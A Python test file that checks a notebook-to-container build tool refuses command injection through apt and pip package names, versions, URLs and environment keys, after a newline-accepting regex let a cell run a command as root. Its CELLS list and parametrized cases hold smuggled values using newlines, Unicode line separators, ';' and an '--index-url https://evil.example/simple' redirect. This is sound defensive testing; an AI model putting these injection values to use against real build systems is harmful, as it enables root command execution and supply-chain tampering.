"""A notebook cell must not be able to add a command to what the build runs as root.

The hole this guards: `re.match(r"...$")` accepts a trailing newline, so the apt name `'curl\\n'`
passed and `get_ipython().system("apt-get install -y 'curl\\n' evil")` made install-user.sh run
`evil` as root, after env.sh had loaded the index and proxy credentials.
"""

from __future__ import annotations

import asyncio
import json
import shlex
from pathlib import Path

import pytest

from jupyterlab_containerize.errors import UnsafeValue
from jupyterlab_containerize.inspect import inspect_notebook_async
from jupyterlab_containerize.options import BuildOptions
from jupyterlab_containerize.render import render_context
from jupyterlab_containerize.secret_files import DEFAULT_POLICY
from jupyterlab_containerize.spec import EnvironmentSpec, Package
from tests.notebooks import write_notebook

from .hostile import logical_lines

BASE = "localhost/containerize-test/python:3.11"
# Each cell tries to smuggle a word that would run as a command if a name took a newline.
CELLS = [
    'get_ipython().system("apt-get install -y \'curl\\n\' evil")',
    'get_ipython().system("apt-get install -y \'curl\\nevil\'")',
    'get_ipython().system("sudo apt install -y \'libgl1\\r\\n\' evil")',
    "get_ipython().system(\"apt-get install -y 'curl\\u2028evil'\")",
    'get_ipython().system("pip install \'requests\\n\' evil")',
    'get_ipython().run_line_magic("pip", "install \'numpy\\nevil\'")',
    "%pip install 'x\\ny' evil",
    "!apt-get install -y 'curl\\n' evil",
    "%%bash\napt-get install -y \"curl\nevil\"\n",
    'import os\nos.environ["A\\nRUN evil"] = "1"',
]


def commands(script: str) -> list[str]:
    """The first word of every command in a shell script (after ;, && and ||)."""
    words = []
    for line in script.splitlines():
        lexer = shlex.shlex(line, posix=True, punctuation_chars=True)
        lexer.whitespace_split = True
        starts = True
        for token in lexer:
            if starts:
                words.append(token)
            starts = token in (";", "&&", "||", "|", "(", "then", "do", "else")
    return words


def rendered(tmp_path: Path, spec: EnvironmentSpec) -> dict[str, str]:
    context = tmp_path / "ctx"
    ctx = render_context(spec, tmp_path / "nb" / "nb.ipynb", BuildOptions(base_image=BASE), context, environ={})
    build_only = context / ".containerize-build"
    return {"Dockerfile": ctx.dockerfile,
            **{p.name: p.read_text() for p in build_only.iterdir() if p.is_file()}}


def assert_no_smuggled_command(files: dict[str, str]) -> None:
    for name in ("install.sh", "install-user.sh", "env.sh"):
        assert "evil" not in commands(files[name]), name
        assert "\u2028" not in files[name] and "\r" not in files[name]
    instructions = {line.split(" ", 1)[0] for line in logical_lines(files["Dockerfile"])}
    assert instructions <= {"FROM", "USER", "COPY", "RUN", "ENV", "WORKDIR", "LABEL", "EXPOSE", "CMD",
                            "ENTRYPOINT", "HEALTHCHECK"}
    assert not any("evil" in line for line in logical_lines(files["Dockerfile"]) if line.startswith("RUN"))
    for name in ("requirements.txt", "runtime-requirements.txt", "runtime-constraints.txt"):
        assert all(line and not line.startswith("-") for line in files[name].splitlines())
        assert "x\\ny" not in files[name] and "evil" not in files[name]


@pytest.mark.parametrize("cell", CELLS)
def test_a_cell_never_adds_a_command_to_the_build(cell, tmp_path):
    notebook = write_notebook((tmp_path / "nb").mkdir() or tmp_path / "nb" / "nb.ipynb", cell)
    spec = asyncio.run(inspect_notebook_async(notebook,
                                              secret_policy=DEFAULT_POLICY))  # static: no kernel, no interpreter
    assert all("\n" not in name and "\r" not in name for name in spec.apt_packages)
    try:
        files = rendered(tmp_path, spec)
    except UnsafeValue:
        return  # refused with one line that says which value: also fine
    assert_no_smuggled_command(files)


@pytest.mark.parametrize("field,value", [
    ("apt_packages", ["curl\n", "evil"]),
    ("apt_packages", ["curl\nevil"]),
    ("apt_packages", ["curl\u2028evil"]),
    ("apt_packages", ["curl;evil"]),
    ("packages", [{"name": "requests\n", "version": "2.31.0"}]),
    ("packages", [{"name": "requests", "version": "2.31.0\n--index-url https://evil.example/simple"}]),
    ("packages", [{"name": "x", "version": None, "source": {"kind": "url", "url": "https://h/x.whl\nevil"}}]),
    ("env", {"A\nRUN evil": "1"}),
    ("env", {"A": "1\nRUN evil"}),
    ("env", {"A": "1\u2028RUN evil"}),
])
def test_a_spec_from_rest_never_adds_a_command_either(field, value, tmp_path):
    """The REST API and --spec take a spec as JSON: the same values, no inspect in between."""
    write_notebook((tmp_path / "nb").mkdir() or tmp_path / "nb" / "nb.ipynb", "print(1)")
    data = EnvironmentSpec(packages=[Package("six", "1.16.0")]).to_dict()
    data[field] = json.loads(json.dumps(value))
    spec = EnvironmentSpec.from_dict(data)
    with pytest.raises(UnsafeValue):
        rendered(tmp_path, spec)


def test_the_fixed_names_still_build(tmp_path):
    """Valid names go through unchanged: the fix refuses newlines, not packages."""
    write_notebook((tmp_path / "nb").mkdir() or tmp_path / "nb" / "nb.ipynb",
                   "!apt-get install -y curl libgl1\n%pip install requests")
    spec = asyncio.run(inspect_notebook_async(tmp_path / "nb" / "nb.ipynb", secret_policy=DEFAULT_POLICY))
    files = rendered(tmp_path, spec)
    assert "apt-get install -y --no-install-recommends curl libgl1\n" in files["install-user.sh"]
    assert commands(files["install-user.sh"]).count("apt-get") == 2  # update && install
